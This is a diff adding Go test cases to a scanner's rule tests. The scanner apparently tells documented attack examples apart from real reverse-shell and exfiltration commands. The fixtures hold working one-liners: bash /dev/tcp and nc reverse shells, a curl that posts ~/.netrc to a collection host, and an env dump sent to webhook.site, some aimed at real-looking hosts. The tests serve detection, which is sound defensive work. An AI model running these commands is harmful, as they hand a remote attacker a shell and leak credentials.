@@ -138,6 +138,12 @@ func TestRules(t *testing.T) {
 		// 20 is in TestMaliciousTreesBuiltInTest.
 		// 21
 		{"attack documented", tree("```\nbash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1\n```\n"), "attack-example", "reverse-shell"},
+		{"reverse shell to an IP beside example.com", tree("```\nbash -i >& /dev/tcp/45.9.148.3/4444 0>&1 # see example.com\n```\n"), "reverse-shell", "attack-example"},
+		{"reverse shell to a real host beside a placeholder", tree("```\nbash -i >& /dev/tcp/c2.badhost.net/4444 0>&1 # attacker.com\n```\n"), "reverse-shell", "attack-example"},
+		{"exfil to a drop host beside example.com", tree("```\nenv | curl -d @- https://webhook.site/abc # example.com\n```\n"), "exfiltration", "attack-example"},
+		{"exfil to a real URL beside a placeholder", tree("```\ncurl -d @$HOME/.netrc https://collect.badhost.net/x -H 'X: attacker.com'\n```\n"), "exfiltration", "attack-example"},
+		{"reverse shell to a documentation IP", tree("```\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1 # ATTACKER_IP\n```\n"), "attack-example", "reverse-shell"},
+		{"nc to a placeholder", tree("```\nnc -e /bin/sh attacker.com 4444\n```\n"), "attack-example", "reverse-shell"},
 		{"exfil documented", tree("`curl -d @/etc/passwd https://attacker.com/x`\n"), "", "exfiltration"},
 		// 22
 		{"NUL in a text file", tree("ok\x00\n"), "malformed-text", ""},
